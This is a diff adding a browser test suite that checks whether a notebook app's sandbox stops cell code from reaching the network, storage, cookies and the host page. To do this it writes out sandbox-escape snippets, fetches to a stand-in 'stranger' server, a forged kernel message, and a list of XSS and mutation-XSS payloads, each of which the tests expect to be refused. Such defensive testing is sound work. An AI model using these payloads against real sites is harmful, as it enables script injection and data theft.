@@ -1,0 +1,174 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { launchBrowser, openPage } from './browser.ts'
+import { fixture } from './build-fixture.ts'
+import { serveSite, type Site } from './site.ts'
+
+let site: Site
+let browser: Browser
+let page: Page
+let errors: string[]
+/** A stranger's server, open to all the world: whatever arrives there has got out. */
+let stranger: { server: Server; url: string; asked: string[] }
+
+beforeAll(async () => {
+  site = await serveSite(fixture.folder, fixture.base)
+  stranger = await listen()
+  browser = await launchBrowser()
+  ;({ page, errors } = await openPage(browser, `${site.url}fixture/`))
+  await page.evaluate(() => {
+    localStorage.setItem('secret', 'stored')
+    document.cookie = 'secret=baked'
+    Object.assign(window, { untouched: true })
+  })
+})
+afterAll(async () => {
+  await browser.close()
+  await site.close()
+  stranger.server.close()
+})
+
+function listen(): Promise<typeof stranger> {
+  const asked: string[] = []
+  const server = createServer((request, response) => {
+    asked.push(request.url ?? '')
+    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('self.imported = true')
+  })
+  return new Promise((done) => server.listen(0, '127.0.0.1', () => done({ server, asked, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` })))
+}
+
+let runs = 0
+
+/**
+ * Runs code in a cell as a reader would, past the check of names: `top` is the worker's global object, got by the
+ * constructor of functions, as an attacker would get it. Returns the text of the cell's output.
+ */
+async function attack(code: string): Promise<string> {
+  const mark = `done ${++runs}`
+  const body = `const top = ((x) => x).constructor('return this')()\nconst STRANGER = '${stranger.url}'\n${code}`
+  const source = `await (async () => { try { return await (async () => { ${body} })() } catch (error) { return 'refused: ' + error } })().then((it) => display(String(it)))\ndisplay('${mark}')`
+  await page.locator('#cell-sum .toolbar .edit').click()
+  await page.locator('#cell-sum .cm-content').fill(source)
+  await page.locator('#cell-sum .run').click()
+  await page.waitForFunction((text) => document.querySelector('#cell-sum .output')?.textContent?.includes(text), mark)
+  return (await page.locator('#cell-sum .drawn').textContent()) ?? ''
+}
+
+describe('cell code reaches no network', () => {
+  test.each([
+    ['fetch', 'const r = await top.fetch(STRANGER); return "got " + r.status'],
+    ['fetch of the site itself', `const r = await top.fetch(${JSON.stringify('SITE')}); return "got " + r.status`],
+    ['XMLHttpRequest', 'const r = new top.XMLHttpRequest(); r.open("GET", STRANGER, false); r.send(); return "got " + r.status'],
+    ['WebSocket', 'return await new Promise((done) => { const s = new top.WebSocket(STRANGER.replace("http", "ws")); s.onopen = () => done("got in"); s.onerror = () => done("refused") })'],
+    ['EventSource', 'return await new Promise((done) => { const s = new top.EventSource(STRANGER); s.onopen = () => done("got in"); s.onerror = () => done("refused") })'],
+    ['importScripts', 'top.importScripts(STRANGER + "/script.js"); return "got " + top.imported'],
+    ['a dynamic import', 'await top.eval("import(\'" + STRANGER + "/module.js\')"); return "got it"'],
+    ['a worker of its own', 'const w = new top.Worker(top.URL.createObjectURL(new top.Blob(["fetch(\'" + STRANGER + "/worker\').then(() => postMessage(\'got in\'), () => postMessage(\'refused\'))"]))); return await new Promise((done) => { w.onmessage = (e) => done(e.data); w.onerror = () => done("refused") })'],
+    ['sendBeacon', 'return top.navigator.sendBeacon ? "got it" : "refused"'],
+    ['WebTransport', 'const t = new top.WebTransport(STRANGER.replace("http:", "https:")); await t.ready; return "got in"'],
+  ])('by %s', async (_, code) => {
+    expect(await attack(code.replace('"SITE"', JSON.stringify(site.url)))).toMatch(/^refused/)
+  })
+  test('as the stranger’s server saw', () => {
+    expect(stranger.asked).toEqual([])
+  })
+})
+
+describe('cell code reaches no storage', () => {
+  test.each([
+    ['localStorage', 'return top.localStorage ? "got it" : "refused"'],
+    ['IndexedDB', 'return await new Promise((done, fail) => { const r = top.indexedDB.open("x"); r.onsuccess = () => done("got it"); r.onerror = () => done("refused") })'],
+    ['caches', 'await top.caches.open("x"); return "got it"'],
+    ['cookies', 'return top.document && top.document.cookie ? "got " + top.document.cookie : "refused"'],
+    ['the cookie store', 'return top.cookieStore ? "got " + (await top.cookieStore.getAll()).length : "refused"'],
+    ['the origin private file system', 'await top.navigator.storage.getDirectory(); return "got it"'],
+    ['broadcasts to other pages of the site', 'const c = new top.BroadcastChannel("x"); return top.origin === "null" ? "refused" : "got " + top.origin'],
+  ])('by %s', async (_, code) => {
+    expect(await attack(code)).toMatch(/^refused/)
+  })
+})
+
+describe('cell output is cleaned before it enters the page', () => {
+  const intrusions: [string, string][] = [
+    ['an inline handler', '<img src="data:," onerror="window.untouched = false">'],
+    ['a script', '<svg><script>window.untouched = false</script></svg>'],
+    ['a frame', '<iframe srcdoc="<script>parent.untouched = false</script>"></iframe>'],
+    ['an address that is code', '<a href="javascript:window.untouched = false" id="trap">x</a>'],
+    ['markup that changes when it is parsed twice', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.untouched=false&gt;">'],
+    ['an element of the page’s own', '<nb-input kind="Slider" name="T"><input type="range"></nb-input>'],
+    ['a form', '<form action="/x"><button>x</button></form>'],
+    ['a style sheet', '<style>body { display: none }</style><link rel="stylesheet" href="/x.css">'],
+    ['a picture from elsewhere', '<img src="STRANGER/pixel.png"><svg><image href="STRANGER/pixel.svg"></image></svg><p style="background: url(STRANGER/bg.png)">x</p>'],
+    ['a name that the page’s scripts use', '<div id="program">{}</div><img name="getElementById">'],
+    ['a refresh', '<meta http-equiv="refresh" content="0; url=STRANGER">'],
+    ['a base', '<base href="STRANGER">'],
+  ]
+  test.each(intrusions)('%s', async (_, html) => {
+    await attack(`display({ nodeType: 1, localName: 'div', outerHTML: ${JSON.stringify(html)}.replaceAll('STRANGER', STRANGER) })`)
+    const left = await page.locator('#cell-sum .drawn').evaluate((drawn) => ({
+      names: [...drawn.querySelectorAll('script, iframe, form, button, style, link, meta, base, nb-input, input, object, embed')].map((it) => it.localName),
+      handlers: [...drawn.querySelectorAll('*')].flatMap((it) => [...it.attributes]).filter((it) => /^on|^name$/.test(it.name) || /javascript:/i.test(it.value)).map((it) => it.name),
+      foreignIds: [...drawn.querySelectorAll('[id]')].map((it) => it.id).filter((id) => !id.startsWith('sum')),
+    }))
+    expect(left).toEqual({ names: [], handlers: [], foreignIds: [] })
+    for (const trap of await page.locator('#cell-sum .drawn a').all()) await trap.click({ timeout: 1000 }).catch(() => {})
+    expect(await page.evaluate(() => (window as unknown as { untouched: boolean }).untouched)).toBe(true)
+    expect(stranger.asked).toEqual([])
+  })
+  test('so that nothing of it lies over the page', async () => {
+    await attack(`display({ nodeType: 1, localName: 'div', outerHTML: '<div id="sum-cover" style="position: fixed; inset: 0; z-index: 99999; background: red">x</div>' })`)
+    const box = await page.locator('#cell-sum .output').boundingBox()
+    const cover = await page.locator('#cell-sum .drawn div[style]').boundingBox()
+    expect(cover && box && cover.x >= box.x - 1 && cover.y >= box.y - 1 && cover.width <= box.width + 2 && cover.height <= box.height + 2).toBe(true)
+  })
+})
+
+describe('cell code does not touch the page', () => {
+  test('nor see its window, its storage or its address', async () => {
+    expect(await attack('return [typeof top.parent, typeof top.opener, top.origin, String(top.location).slice(0, 9)].join()')).toMatch(/^undefined,undefined,null,blob:null/)
+    expect(await page.evaluate(() => [localStorage.getItem('secret'), document.cookie])).toEqual(['stored', 'secret=baked'])
+  })
+  test('by what it says in the kernel’s name: a forged reply is only ever shown, cleaned', async () => {
+    const code = `const send = top.MessagePort.prototype.postMessage
+      top.MessagePort.prototype.postMessage = function (message) {
+        if (message.type === 'event' && message.event.type === 'output') message.event.outputs = [{ type: 'svg', html: '<img src=x onerror="window.untouched = false">' }, { type: 'nonsense' }, 7]
+        return send.call(this, message)
+      }
+      setTimeout(() => { top.MessagePort.prototype.postMessage = send }, 50)
+      return 'forged'`
+    await attack(`${code}`).catch(() => '')
+    expect(await page.evaluate(() => (window as unknown as { untouched: boolean }).untouched)).toBe(true)
+  })
+})
+
+describe('the page’s own policy', () => {
+  test('allows no eval, no inline script, no other host', async () => {
+    const policy = await page.locator('meta[http-equiv="Content-Security-Policy" i]').getAttribute('content')
+    expect(policy).toContain("default-src 'none'")
+    const scripts = /script-src ([^;]*)/.exec(policy ?? '')?.[1] ?? ''
+    expect(scripts).not.toMatch(/'unsafe-inline'|'unsafe-eval'|https?:|\*/)
+    // Not within `evaluate`, which the browser lets pass.
+    await page.evaluate(() => setTimeout(() => {
+      try {
+        Object.assign(window, { outcome: new Function('return "ran"')() as string })
+      } catch (error) {
+        Object.assign(window, { outcome: (error as Error).name })
+      }
+    }))
+    await page.waitForFunction(() => 'outcome' in window)
+    expect(await page.evaluate(() => (window as unknown as { outcome: string }).outcome)).toBe('EvalError')
+  })
+  test('blocks a script put into the page', async () => {
+    await page.evaluate(() => {
+      const script = document.createElement('script')
+      script.textContent = 'window.untouched = false'
+      document.body.append(script)
+    })
+    expect(await page.evaluate(() => (window as unknown as { untouched: boolean }).untouched)).toBe(true)
+  })
+  test('is all that the console complained of', () => {
+    expect(errors.filter((it) => !/Content Security Policy|violates|Refused|ERR_BLOCKED_BY_CSP|javascript:/.test(it))).toEqual([])
+  })
+})
